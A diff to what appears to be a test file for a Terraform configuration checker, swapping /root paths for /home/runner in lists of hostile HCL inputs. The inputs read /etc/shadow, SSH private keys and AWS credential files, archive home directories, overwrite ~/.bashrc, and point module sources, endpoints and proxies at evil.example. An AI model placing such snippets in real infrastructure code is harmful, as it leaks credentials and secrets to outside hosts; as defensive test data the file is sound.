@@ -84,7 +84,7 @@ def _reaching() -> Iterator[tuple[str, str]]:
     yield "write-home", 'resource "local_file" "x" {\n  filename = "~/.bashrc"\n  content = "x"\n}\n'
     yield (
         "archive-home",
-        'data "archive_file" "x" {\n  type = "zip"\n  source_dir = "/root"\n  output_path = "x.zip"\n}\n',
+        'data "archive_file" "x" {\n  type = "zip"\n  source_dir = "/home/runner"\n  output_path = "x.zip"\n}\n',
     )
     yield (
         "upload-secret",
@@ -113,7 +113,7 @@ _READS = (
     'file("${path.root}/../x")',
     "file(var.where)",
     'file(join("/", ["", "etc", "passwd"]))',
-    'filebase64("/root/.ssh/id_rsa")',
+    'filebase64("/home/runner/.ssh/id_rsa")',
     'filemd5("/etc/shadow")',
     'fileset("/", "**")',
     'fileexists("/etc/shadow")',
@@ -135,7 +135,7 @@ _SOURCES = (
     '"https://evil.example/x.zip"',
     '"s3::https://s3.amazonaws.com/evil/x.zip"',
     '"evil/x/aws"',
-    '"/root/x"',
+    '"/home/runner/x"',
     '"../../../x"',
     '"./x/../../y"',
     '"terraform-aws-modules/vpc/aws"',
@@ -147,7 +147,7 @@ _PROVIDERS = (
     'assume_role = { role_arn = "arn:aws:iam::999999999999:role/x" }',
     'endpoints {\n    s3 = "http://evil.example"\n  }',
     'access_key = "AKIAEXAMPLE"',
-    'shared_credentials_files = ["/root/.aws/credentials"]',
+    'shared_credentials_files = ["/home/runner/.aws/credentials"]',
     'http_proxy = "http://evil.example"',
     "insecure = true",
     'profile = "production"',
